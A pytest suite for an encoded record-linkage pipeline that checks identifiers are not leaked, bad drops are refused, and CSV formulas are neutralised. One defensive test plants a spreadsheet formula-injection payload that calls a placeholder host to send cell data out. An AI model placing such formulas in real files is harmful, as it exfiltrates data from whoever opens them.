"""intel encode and the hub's ingest of encoded drops: what is sent, what is kept locally, and
every way an encoded drop is refused whole with the store unchanged."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import polars as pl
import pytest

from fixtures.world import generate_world
from ingest.encode import encode_drop
from core.errors import IntelError
from ingest.drops import ingest_drop
from core.store import Store

KEY = "5f" * 32
OTHER_KEY = "a7" * 32


@pytest.fixture(scope="session")
def world(tmp_path_factory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("pprl")
    generate_world(base / "world", households=40, seed=5)
    (base / "k.key").write_text(KEY + "\n")
    (base / "other.key").write_text(OTHER_KEY + "\n")
    encode_drop(base / "world" / "drop", base / "enc", base / "k.key")
    encode_drop(base / "world" / "drop", base / "enc_other", base / "other.key")
    return {"base": base, "clear": base / "world" / "drop", "enc": base / "enc", "local": base / "enc.local",
            "enc_other": base / "enc_other", "key": base / "k.key"}


def clear_words(local: Path, clear: Path) -> set[str]:
    """Every clear identifier the agency keeps (names and address words of 4+ letters, dobs,
    postcodes, person_refs, UPRNs), lower case; less what stays in clear by design (borough
    names, which addresses also hold, and event dates, which a newborn's dob can equal)."""
    lookup = pl.read_csv(local / "lookup.csv", infer_schema=False)
    words: set[str] = set()
    for col in ("forename", "middle_names", "surname", "address"):
        for v in lookup[col].drop_nulls():
            words |= {w for w in re.findall(r"[a-z]+", v.lower()) if len(w) >= 4}
    for col in ("dob", "person_ref", "uprn"):
        words |= {v.lower() for v in lookup[col].drop_nulls() if len(v) >= 4}
    words |= {v.lower().replace(" ", "") for v in lookup["postcode"].drop_nulls()}
    words |= {v.replace("-", "") for v in lookup["dob"].drop_nulls()}
    for f in clear.glob("*.csv"):
        frame = pl.read_csv(f, infer_schema=False)
        words -= {w for v in frame["borough"].drop_nulls() for w in re.findall(r"[a-z]+", v.lower())}
        for col in ("event_date", "decision_date"):
            if col in frame.columns:
                words -= {v[:10] for v in frame[col].drop_nulls()} | {v[:10].replace("-", "") for v in frame[col].drop_nulls()}
    return words


def leaked(text: str, words: set[str]) -> set[str]:
    cells = set(re.findall(r"[a-z0-9]+", text.lower())) | set(re.findall(r"\d{4}-\d\d-\d\d", text))
    return cells & words


def test_encoded_drop_declares_itself_and_carries_no_clear_identifier(world):
    manifest = json.loads((world["enc"] / "manifest.json").read_text())
    assert manifest["encoding"]["scheme"] == "mash-intel-pprl/1"
    assert re.fullmatch(r"[0-9a-f]{16}", manifest["encoding"]["key_fingerprint"])
    assert set(manifest["files"]) == {"police.csv", "social_care.csv", "health.csv"}
    words = clear_words(world["local"], world["clear"])
    assert len(words) > 100
    for f in world["enc"].glob("*.csv"):
        frame = pl.read_csv(f, infer_schema=False)
        assert not {"forename", "surname", "dob", "address", "postcode", "person_ref", "uprn"} & set(frame.columns)
        # base64 filters are random letters: compare whole cells of the clear-looking columns
        clear_cols = [c for c in frame.columns if not c.startswith(("enc_", "tok_"))]
        assert not leaked(frame.select(clear_cols).write_csv(), words), f.name


def test_lookup_maps_every_record_to_its_identity_and_stays_local(world):
    lookup = pl.read_csv(world["local"] / "lookup.csv", infer_schema=False)
    sent = sum(pl.read_csv(f, infer_schema=False).height for f in world["enc"].glob("*.csv"))
    assert lookup.height == sent
    assert {"source", "record_id", "forename", "surname", "dob"} <= set(lookup.columns)
    assert not (world["enc"] / "lookup.csv").exists()


def test_same_key_same_encoding_other_key_other_encoding(world, tmp_path):
    encode_drop(world["clear"], tmp_path / "again", world["key"])
    for name in ("police.csv", "health.csv"):
        assert (tmp_path / "again" / name).read_bytes() == (world["enc"] / name).read_bytes()
        assert (world["enc_other"] / name).read_bytes() != (world["enc"] / name).read_bytes()


def test_encoded_store_holds_no_clear_identifier_in_any_table(world, tmp_path):
    with Store(tmp_path / "s.duckdb") as store:
        summary = ingest_drop(store, world["enc"])
        assert summary["loaded"] > 0 and summary["rejected"] == 0
        assert store.scalar("SELECT mode FROM store_encoding") == "encoded"
        assert store.scalar("SELECT count(*) FROM mention_encodings") == summary["loaded"]
        words = clear_words(world["local"], world["clear"])
        for table in store.tables():
            frame = store.df(f"SELECT * FROM {table}")
            text = json.dumps(frame.select([c for c, t in frame.schema.items() if t != pl.Binary]).to_dicts(),
                              default=str)
            assert not leaked(text, words), table


def test_encode_refuses_bad_key_and_writes_nothing(world, tmp_path):
    short = tmp_path / "short.key"
    short.write_text("tooshort")
    for key, message in ((None, "--key-file is required"), (tmp_path / "none.key", "does not exist"),
                         (short, "at least 32 bytes")):
        with pytest.raises(IntelError, match=message):
            encode_drop(world["clear"], tmp_path / "out", key)
        assert not (tmp_path / "out").exists() and not (tmp_path / "out.local").exists()
    with pytest.raises(IntelError, match="already encoded"):
        encode_drop(world["enc"], tmp_path / "out", world["key"])
    with pytest.raises(IntelError, match="already exists and is not empty"):
        encode_drop(world["clear"], world["enc"], world["key"])


def _copy(src: Path, dst: Path) -> Path:
    shutil.copytree(src, dst)
    return dst


def _rehash(drop: Path) -> None:
    """Make the manifest's sha256 and rows match the (edited) files again."""
    import hashlib
    manifest = json.loads((drop / "manifest.json").read_text())
    for name in manifest["files"]:
        data = (drop / name).read_bytes()
        manifest["files"][name] = {"rows": pl.read_csv(drop / name, infer_schema=False).height,
                                   "sha256": hashlib.sha256(data).hexdigest()}
    (drop / "manifest.json").write_text(json.dumps(manifest))


def _edit(drop: Path, name: str, fn) -> None:
    frame = pl.read_csv(drop / name, infer_schema=False).fill_null("")
    fn(frame).write_csv(drop / name)
    _rehash(drop)


def _bad_drops(world, tmp: Path) -> list[tuple[str, Path, str]]:
    cases = []

    def case(name, message, build):
        drop = _copy(world["enc"], tmp / name)
        build(drop)
        cases.append((name, drop, message))

    case("mixed_column", "carries clear identifier\\(s\\) surname",
         lambda d: _edit(d, "police.csv", lambda f: f.with_columns(pl.lit("Smith").alias("surname"))))

    def clear_file(d):
        shutil.copy(world["clear"] / "health.csv", d / "health.csv")
        _rehash(d)
    case("mixed_files", "health.csv: the drop is declared encoded but this file carries clear identifier", clear_file)

    def undeclared(d):
        m = json.loads((d / "manifest.json").read_text())
        del m["encoding"]
        (d / "manifest.json").write_text(json.dumps(m))
    case("undeclared", "carries encoded column\\(s\\).*declares no encoding", undeclared)

    case("bad_filter", "police.csv: row 3, column enc_surname: not a Bloom filter of 256 bits",
         lambda d: _edit(d, "police.csv", lambda f: f.with_columns(
             pl.when(pl.int_range(pl.len()) == 2).then(pl.lit("AAAA")).otherwise(pl.col("enc_surname"))
             .alias("enc_surname"))))
    case("bad_token", "social_care.csv: row 1, column tok_dob: not a keyed token",
         lambda d: _edit(d, "social_care.csv", lambda f: f.with_columns(
             pl.when(pl.int_range(pl.len()) == 0).then(pl.lit("1984-07-03")).otherwise(pl.col("tok_dob"))
             .alias("tok_dob"))))

    def other_filters(d):
        m = json.loads((d / "manifest.json").read_text())
        m["encoding"]["filters"]["enc_surname"]["l"] = 1024
        (d / "manifest.json").write_text(json.dumps(m))
    case("other_filters", "filter parameters", other_filters)

    def bad_scheme(d):
        m = json.loads((d / "manifest.json").read_text())
        m["encoding"]["scheme"] = "clkhash/2"
        (d / "manifest.json").write_text(json.dumps(m))
    case("bad_scheme", "scheme 'clkhash/2' is not one this hub links", bad_scheme)
    cases.append(("other_key", world["enc_other"], "encoded with another key \\(fingerprint"))
    cases.append(("clear_into_encoded", world["clear"], "this store links encoded identifiers"))
    return cases


def test_bad_encoded_drops_are_refused_whole_and_the_store_unchanged(world, tmp_path):
    with Store(tmp_path / "s.duckdb") as store:
        ingest_drop(store, world["enc"])
        before = store.content_digest()
        for name, drop, message in _bad_drops(world, tmp_path):
            with pytest.raises(IntelError, match=message):
                ingest_drop(store, drop)
            assert store.content_digest() == before, name


def test_an_encoded_drop_is_refused_by_a_clear_store(world, tmp_path):
    with Store(tmp_path / "c.duckdb") as store:
        ingest_drop(store, world["clear"])
        assert store.scalar("SELECT mode FROM store_encoding") == "clear"
        # the leak check finds clear identifiers where they are (it is not vacuous)
        mentions = json.dumps(store.df("SELECT * FROM mentions").to_dicts(), default=str)
        assert len(leaked(mentions, clear_words(world["local"], world["clear"]))) > 100
        before = store.content_digest()
        with pytest.raises(IntelError, match="this store links clear identifiers and the drop is encoded"):
            ingest_drop(store, world["enc"])
        assert store.content_digest() == before


def test_the_encoders_address_signature_is_the_households_one(world):
    from graphs.dwellings import address_signature
    from ingest.encode_rows import _address_signature

    lookup = pl.read_csv(world["local"] / "lookup.csv", infer_schema=False)
    frame = lookup.select(norm_address(pl.col("address")).alias("address"),
                          norm_postcode(pl.col("postcode")).alias("postcode"))
    ours = frame.select(_address_signature()).to_series()
    theirs = frame.select(address_signature()).to_series()
    assert ours.drop_nulls().len() > 100 and ours.equals(theirs, check_names=False)


def norm_address(expr):
    from ingest import normalise
    return normalise.address(expr)


def norm_postcode(expr):
    from ingest import normalise
    return normalise.postcode(expr)


def test_each_encoded_row_carries_its_own_records_encodings(world, tmp_path):
    """Row by row: the record's forename token is the token of its own forename (the encoder
    normalises distinct values through a join, which must not shuffle rows)."""
    from ingest import encoded_contract as ec
    from ingest import pprl

    keys = ec.Keys(pprl.read_key_file(world["key"]))
    lookup = pl.read_csv(world["local"] / "lookup.csv", infer_schema=False)
    sent = pl.concat([pl.read_csv(f, infer_schema=False).select("record_id", "tok_forename", "tok_dob")
                      for f in world["enc"].glob("*.csv")])
    both = lookup.join(sent, on="record_id").filter(pl.col("forename").fill_null("") != "", pl.col("dob").fill_null("") != "")
    assert both.height > 500
    from ingest import normalise
    both = both.with_columns(normalise.name(pl.col("forename")).alias("nf"))
    for row in both.head(400).iter_rows(named=True):
        if row["nf"]:
            assert row["tok_forename"] == keys.tokens["tok_forename"].token(row["nf"]), row["record_id"]
        assert row["tok_dob"] == keys.tokens["tok_dob"].token(row["dob"][:10]), row["record_id"]


def test_the_agencys_local_csvs_run_no_spreadsheet_formula(world, tmp_path):
    """lookup.csv and rejected.csv are opened by the agency's staff: a cell an attacker wrote as
    a formula is neutralised (OWASP), as the hub's own CSVs are."""
    drop = tmp_path / "clear"
    drop.mkdir()
    police = pl.read_csv(world["clear"] / "police.csv", infer_schema=False)
    police = police.with_columns(
        pl.when(pl.int_range(pl.len()) == 0).then(pl.lit('=HYPERLINK("http://x.example/?"&A1)'))
        .otherwise(pl.col("surname")).alias("surname"),
        pl.when(pl.int_range(pl.len()) == 1).then(pl.lit("@SUM(1+1)")).otherwise(pl.col("record_id")).alias("record_id"),
        pl.when(pl.int_range(pl.len()) == 1).then(pl.lit("not a date")).otherwise(pl.col("event_date")).alias("event_date"))
    police.write_csv(drop / "police.csv")
    encode_drop(drop, tmp_path / "out", world["key"])
    lookup = pl.read_csv(tmp_path / "out.local" / "lookup.csv", infer_schema=False)
    rejected = pl.read_csv(tmp_path / "out.local" / "rejected.csv", infer_schema=False)
    assert lookup["surname"][0] == '\'=HYPERLINK("http://x.example/?"&A1)'
    assert "'@SUM(1+1)" in rejected["record_id"].to_list()
    for frame in (lookup, rejected):
        assert not frame.select(pl.any_horizontal(pl.all().fill_null("").str.contains(r"^[=+\-@\t\r]")).any()).item()
